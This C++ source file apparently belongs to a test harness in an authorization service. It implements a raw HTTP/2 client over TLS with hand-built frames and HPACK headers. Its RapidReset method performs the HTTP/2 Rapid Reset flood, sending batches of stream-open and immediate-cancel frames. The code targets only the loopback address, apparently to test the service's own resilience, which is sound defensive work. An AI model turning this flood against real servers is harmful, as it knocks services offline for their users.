#include "authz/h2_flood.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>

#include "absl/strings/str_cat.h"

namespace vouch::authz {
namespace {

absl::Status Errno(const char* what) {
  return absl::UnavailableError(absl::StrCat(what, ": ", std::strerror(errno)));
}

absl::Status SslError(const char* what) {
  char buf[256] = {0};
  ERR_error_string_n(ERR_get_error(), buf, sizeof(buf));
  ERR_clear_error();
  return absl::UnavailableError(absl::StrCat(what, ": ", buf));
}

// ALPN protocol list: "h2" (RFC 7301 wire format).
constexpr unsigned char kAlpn[] = {2, 'h', '2'};

// RFC 9113 4.1: length (24 bits), type, flags, stream id (31 bits).
std::string Frame(uint8_t type, uint8_t flags, uint32_t stream,
                  const std::string& payload) {
  std::string f;
  const uint32_t n = static_cast<uint32_t>(payload.size());
  f.push_back(static_cast<char>((n >> 16) & 0xff));
  f.push_back(static_cast<char>((n >> 8) & 0xff));
  f.push_back(static_cast<char>(n & 0xff));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8) {
    f.push_back(static_cast<char>((stream >> shift) & 0xff));
  }
  return f + payload;
}

constexpr uint8_t kHeaders = 0x1, kRstStream = 0x3, kSettings = 0x4;
constexpr uint8_t kEndHeaders = 0x4, kAck = 0x1;

// RFC 7541 5.2: a string literal without Huffman coding (lengths < 127).
std::string HpackString(const std::string& s) {
  return std::string(1, static_cast<char>(s.size())) + s;
}

// RFC 7541: the header block of a gRPC call to `path`. Indexed fields
// from the static table (Appendix A) and literals without indexing (6.2.2).
std::string HeaderBlock(const std::string& path) {
  std::string b;
  b.push_back(static_cast<char>(0x83));  // :method POST (index 3)
  b.push_back(static_cast<char>(0x87));  // :scheme https (index 7)
  b.push_back(0x04);                     // :path (name index 4)
  b += HpackString(path);
  b.push_back(0x01);  // :authority (name index 1)
  b += HpackString("127.0.0.1");
  b.push_back(0x0f);  // content-type (name index 31 = 15 + 16)
  b.push_back(0x10);
  b += HpackString("application/grpc");
  b.push_back(0x00);  // te: trailers (new name)
  b += HpackString("te");
  b += HpackString("trailers");
  return b;
}

bool WaitFd(int fd, short events) {
  pollfd p{fd, events, 0};
  return poll(&p, 1, 1000) >= 0;
}

}  // namespace

absl::StatusOr<int> ConnectTcp(int port) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return Errno("socket");
  sockaddr_in addr;
  std::memset(&addr, 0, sizeof(addr));
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<uint16_t>(port));
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    const absl::Status s = Errno("connect");
    close(fd);
    return s;
  }
  return fd;
}

bool PeerClosed(int fd) {
  char buf[4096];
  while (true) {
    const ssize_t n = recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
    if (n > 0) continue;
    if (n == 0) return true;
    return errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR;
  }
}

absl::StatusOr<std::string> ClientHelloBytes() {
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  if (ctx == nullptr) return SslError("SSL_CTX_new");
  SSL* ssl = SSL_new(ctx);
  BIO* in = BIO_new(BIO_s_mem());
  BIO* out = BIO_new(BIO_s_mem());
  SSL_set_bio(ssl, in, out);  // ssl owns both
  SSL_set_alpn_protos(ssl, kAlpn, sizeof(kAlpn));
  SSL_set_connect_state(ssl);
  SSL_do_handshake(ssl);  // Wants to read: the ClientHello is in `out`.
  char* data = nullptr;
  const long n = BIO_get_mem_data(out, &data);
  std::string hello = n > 0 ? std::string(data, static_cast<size_t>(n)) : "";
  SSL_free(ssl);
  SSL_CTX_free(ctx);
  ERR_clear_error();
  if (hello.empty()) return absl::InternalError("no ClientHello written");
  return hello;
}

absl::StatusOr<std::unique_ptr<H2Client>> H2Client::Connect(
    int port, const ClientFiles& files) {
  std::unique_ptr<H2Client> c(new H2Client());
  c->ctx_ = SSL_CTX_new(TLS_client_method());
  if (c->ctx_ == nullptr) return SslError("SSL_CTX_new");
  SSL_CTX_set_min_proto_version(c->ctx_, TLS1_2_VERSION);
  if (SSL_CTX_load_verify_locations(c->ctx_, files.ca_file.c_str(), nullptr) !=
          1 ||
      SSL_CTX_use_certificate_chain_file(c->ctx_, files.cert_file.c_str()) !=
          1 ||
      SSL_CTX_use_PrivateKey_file(c->ctx_, files.key_file.c_str(),
                                  SSL_FILETYPE_PEM) != 1) {
    return SslError("client certificate");
  }
  SSL_CTX_set_verify(c->ctx_, SSL_VERIFY_PEER, nullptr);
  SSL_CTX_set_mode(c->ctx_, SSL_MODE_ENABLE_PARTIAL_WRITE |
                                SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  absl::StatusOr<int> fd = ConnectTcp(port);
  if (!fd.ok()) return fd.status();
  c->fd_ = *fd;
  c->ssl_ = SSL_new(c->ctx_);
  SSL_set_fd(c->ssl_, c->fd_);
  SSL_set_alpn_protos(c->ssl_, kAlpn, sizeof(kAlpn));
  if (SSL_connect(c->ssl_) != 1) return SslError("TLS handshake");
  fcntl(c->fd_, F_SETFL, fcntl(c->fd_, F_GETFL) | O_NONBLOCK);
  if (absl::Status s = c->WriteAll(absl::StrCat(
          "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", Frame(kSettings, 0, 0, "")));
      !s.ok()) {
    return s;
  }
  return c;
}

H2Client::~H2Client() {
  if (ssl_ != nullptr) SSL_free(ssl_);
  if (ctx_ != nullptr) SSL_CTX_free(ctx_);
  if (fd_ >= 0) close(fd_);
}

bool H2Client::Drain() {
  char buf[16384];
  while (true) {
    const int n = SSL_read(ssl_, buf, sizeof(buf));
    if (n > 0) {
      // The server's SETTINGS arrive first; acknowledge them once
      // (RFC 9113 6.5.3) so the connection is a proper one.
      if (!acked_settings_) {
        acked_settings_ = true;
        const std::string ack = Frame(kSettings, kAck, 0, "");
        SSL_write(ssl_, ack.data(), static_cast<int>(ack.size()));
      }
      continue;
    }
    const int err = SSL_get_error(ssl_, n);
    ERR_clear_error();
    return err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE;
  }
}

absl::Status H2Client::WriteAll(const std::string& bytes) {
  size_t done = 0;
  while (done < bytes.size()) {
    const int n = SSL_write(ssl_, bytes.data() + done,
                            static_cast<int>(bytes.size() - done));
    if (n > 0) {
      done += static_cast<size_t>(n);
      continue;
    }
    const int err = SSL_get_error(ssl_, n);
    ERR_clear_error();
    if (err == SSL_ERROR_WANT_WRITE) {
      if (!Drain()) return absl::UnavailableError("server closed");
      WaitFd(fd_, POLLOUT | POLLIN);
      continue;
    }
    if (err == SSL_ERROR_WANT_READ) {
      if (!Drain()) return absl::UnavailableError("server closed");
      WaitFd(fd_, POLLIN);
      continue;
    }
    return absl::UnavailableError("server closed");
  }
  return absl::OkStatus();
}

absl::StatusOr<int> H2Client::RapidReset(int streams, const std::string& path) {
  const std::string block = HeaderBlock(path);
  // RST_STREAM payload: error code CANCEL (0x8), RFC 9113 7.
  const std::string cancel("\0\0\0\x8", 4);
  constexpr int kBatch = 100;
  int sent = 0;
  while (sent < streams && next_stream_ < 0x7fffff00u) {
    std::string batch;
    for (int i = 0; i < kBatch && sent + i < streams; ++i) {
      batch += Frame(kHeaders, kEndHeaders, next_stream_, block);
      batch += Frame(kRstStream, 0, next_stream_, cancel);
      next_stream_ += 2;
    }
    if (!WriteAll(batch).ok() || !Drain()) return sent;
    sent += std::min(kBatch, streams - sent);
  }
  return sent;
}

}  // namespace vouch::authz
